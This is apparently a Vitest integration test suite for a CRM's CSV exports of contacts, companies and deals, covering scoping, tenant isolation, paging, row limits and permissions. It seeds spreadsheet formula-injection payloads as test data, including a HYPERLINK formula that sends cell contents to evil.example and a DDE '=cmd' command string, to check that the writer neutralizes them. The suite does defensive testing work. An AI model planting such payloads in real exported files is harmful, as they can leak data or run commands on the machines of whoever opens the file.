import { afterAll, beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { systemDb } from "@mg/db/system";
import { callerFor, createTenant, deleteTenant, outcome, type Tenant } from "../../fixtures";
import { MAX_EXPORT_ROWS } from "../../../src/schemas/crm/exports";
import { buildSegmentWorld, type SegmentWorld } from "./segment-world";

// crmExports: contacts of a segment / list / filter / selection / everyone, companies and deals,
// as CSV through the formula-safe writer — custom fields as columns, amounts as exact decimals,
// RLS and record visibility in the path, pages of 1,000 rows, and the row limit stated.

let tenant: Tenant;
let other: Tenant;
let big: Tenant;
let world: SegmentWorld;
let otherWorld: SegmentWorld;

beforeAll(async () => {
  tenant = await createTenant("seg-exports");
  other = await createTenant("seg-exports-other");
  big = await createTenant("seg-exports-big");
  world = await buildSegmentWorld(tenant);
  otherWorld = await buildSegmentWorld(other);
  // A hostile name: a spreadsheet would run it as a formula.
  await systemDb().contact.update({ where: { organizationId_id: { organizationId: tenant.id, id: world.contacts.cyd } }, data: { firstName: '=HYPERLINK("https://evil.example?"&A1)', lastName: "@SUM(1)" } });
});

afterAll(async () => {
  await systemDb().crmSettings.deleteMany({ where: { organizationId: tenant.id } });
  for (const t of [tenant, other, big]) await deleteTenant(t);
});

const owner = () => callerFor(tenant.users.OWNER, tenant.slug);

/** The CSV as records keyed by header (the raw text is checked separately for the escapes). */
function parse(csv: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
}

describe("contact exports", () => {
  it("writes every contact with the standard and custom columns, formula cells neutralized", async () => {
    const file = await owner().crmExports.contacts({ scope: { kind: "all" } });
    expect(file.rowCount).toBe(3);
    expect(file.fileName).toMatch(new RegExp(`^${tenant.slug}-contacts-all-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    const header = file.csv.split("\r\n")[0]?.split(",");
    expect(header?.slice(0, 4)).toEqual(["id", "first_name", "last_name", "email"]);
    expect(header).toEqual(expect.arrayContaining(["plan", "arr", "renewal", "vip", "region", "interests"]));

    // The = and @ cells start with a quote mark: text in every spreadsheet.
    expect(file.csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)"`);
    expect(file.csv).toContain(",'@SUM(1),");
    expect(file.csv).not.toMatch(/(^|,)=HYPERLINK/m);

    const rows = parse(file.csv);
    const ann = rows.find((r) => r.id === world.contacts.ann);
    expect(ann).toMatchObject({
      first_name: "Ann",
      email: "ann@acme.com",
      company: "Acme",
      company_domain: "acme.com",
      lifecycle_stage: "LEAD",
      score: "10",
      tags: "vip; newsletter",
      owner_email: tenant.users.OWNER.email,
      plan: "Pro",
      arr: "5000",
      renewal: "2027-01-15",
      vip: "true",
      region: "Europe",
      interests: "Bread; Cakes",
    });
    // Deleted and merged contacts are not exported.
    expect(rows.map((r) => r.id)).not.toContain(world.contacts.deleted);
    expect(rows.map((r) => r.id)).not.toContain(world.contacts.merged);
  });

  it("exports a segment, a list, an unsaved filter and a selection", async () => {
    const segment = await owner().segments.create({ name: "Customers", filter: { match: "all", conditions: [{ kind: "lifecycle", op: "in", values: ["CUSTOMER"] }] } });
    const bySegment = await owner().crmExports.contacts({ scope: { kind: "segment", segmentId: segment.id } });
    expect(parse(bySegment.csv).map((r) => r.id)).toEqual([world.contacts.bob]);
    expect(bySegment.fileName).toContain("-contacts-segment-customers-");

    const byList = await owner().crmExports.contacts({ scope: { kind: "list", listId: world.listId } });
    expect(parse(byList.csv).map((r) => r.id)).toEqual([world.contacts.ann]);

    const byFilter = await owner().crmExports.contacts({ scope: { kind: "filter", filter: { match: "all", conditions: [{ kind: "score", op: "lt", value: 20 }] } } });
    expect(parse(byFilter.csv).map((r) => r.id).sort()).toEqual([world.contacts.ann, world.contacts.cyd].sort());

    // Another tenant's ids in a selection are not exported (and not told apart from unknown ids).
    const bySelection = await owner().crmExports.contacts({ scope: { kind: "ids", contactIds: [world.contacts.bob, otherWorld.contacts.ann] } });
    expect(parse(bySelection.csv).map((r) => r.id)).toEqual([world.contacts.bob]);
    expect(await outcome(owner().crmExports.contacts({ scope: { kind: "list", listId: otherWorld.listId } }))).toBe("NOT_FOUND");
  });

  it("keeps a member restricted to own records to their own contacts", async () => {
    await systemDb().crmSettings.upsert({ where: { organizationId: tenant.id }, create: { organizationId: tenant.id, ownRecordsOnly: true }, update: { ownRecordsOnly: true } });
    try {
      // The analyst exports but owns nothing here; give them bob.
      await systemDb().contact.update({ where: { organizationId_id: { organizationId: tenant.id, id: world.contacts.bob } }, data: { ownerUserId: tenant.users.ANALYST.id } });
      const file = await callerFor(tenant.users.ANALYST, tenant.slug).crmExports.contacts({ scope: { kind: "all" } });
      expect(parse(file.csv).map((r) => r.id)).toEqual([world.contacts.bob]);
    } finally {
      await systemDb().contact.update({ where: { organizationId_id: { organizationId: tenant.id, id: world.contacts.bob } }, data: { ownerUserId: tenant.users.CONTENT_EDITOR.id } });
      await systemDb().crmSettings.update({ where: { organizationId: tenant.id }, data: { ownRecordsOnly: false } });
    }
  });

  it("reads large sets in pages and refuses more than the limit with a message that says what to do", async () => {
    // Bulk rows through SQL, as the benchmark seeds them: 2,500 tagged, the rest up to limit + 1.
    await systemDb().$executeRaw`
      INSERT INTO contacts (id, organization_id, first_name, tags, created_at, updated_at)
      SELECT gen_random_uuid(), ${big.id}::uuid, 'Bulk ' || n, CASE WHEN n <= 2500 THEN ARRAY['paged'] ELSE ARRAY[]::text[] END,
             timestamp '2026-01-01' + (n % 500) * interval '1 minute', now()
      FROM generate_series(1, ${MAX_EXPORT_ROWS + 1}) AS n`;
    const caller = callerFor(big.users.OWNER, big.slug);
    const paged = await caller.crmExports.contacts({ scope: { kind: "filter", filter: { match: "all", conditions: [{ kind: "tags", op: "has_any", values: ["paged"] }] } } });
    const ids = parse(paged.csv).map((r) => r.id);
    expect(paged.rowCount).toBe(2500);
    expect(new Set(ids).size).toBe(2500);

    const refused = caller.crmExports.contacts({ scope: { kind: "all" } });
    await expect(refused).rejects.toMatchObject({ code: "PAYLOAD_TOO_LARGE", message: expect.stringContaining("at most 50,000") });
  });

  it("is refused to roles without contacts.export", async () => {
    expect(await outcome(callerFor(tenant.users.CONTENT_EDITOR, tenant.slug).crmExports.contacts({ scope: { kind: "all" } }))).toBe("FORBIDDEN");
    expect(await outcome(callerFor(tenant.users.VIEWER, tenant.slug).crmExports.deals())).toBe("FORBIDDEN");
  });
});

describe("company and deal exports", () => {
  it("writes companies with their live contact counts", async () => {
    const file = await owner().crmExports.companies();
    const rows = parse(file.csv);
    expect(rows.map((r) => r.name).sort()).toEqual(["Acme", "Globex"]);
    // Acme: ann (the deleted and merged contacts do not count).
    expect(rows.find((r) => r.name === "Acme")).toMatchObject({ domain: "acme.com", industry: "Software", country: "GB", contacts: "1" });
  });

  it("writes deals with amounts as exact decimals in their currency, filtered by status", async () => {
    const yen = await systemDb().deal.create({
      data: { organizationId: tenant.id, pipelineId: world.pipelineId, stageId: world.stages.qualified, name: "=cmd|' /C calc'!A0", amountMinor: 150_000n, currency: "JPY", position: "a1" },
    });
    const file = await owner().crmExports.deals({ status: "open" });
    const rows = parse(file.csv);
    expect(rows.map((r) => r.id).sort()).toEqual(expect.arrayContaining([yen.id]));
    expect(rows.find((r) => r.name === "Ann's renewal")).toMatchObject({ amount: "1000.00", currency: "USD", stage: "Qualified", status: "open", contacts: "Ann Lee <ann@acme.com>" });
    expect(rows.find((r) => r.id === yen.id)).toMatchObject({ amount: "150000", currency: "JPY", name: "'=cmd|' /C calc'!A0" });
    const won = await owner().crmExports.deals({ status: "won" });
    expect(parse(won.csv).map((r) => r.name)).toEqual(["Bob's order"]);
    // A deleted deal is not exported.
    expect(parse((await owner().crmExports.deals()).csv).map((r) => r.name)).not.toContain("Cyd's abandoned deal");
  });
});
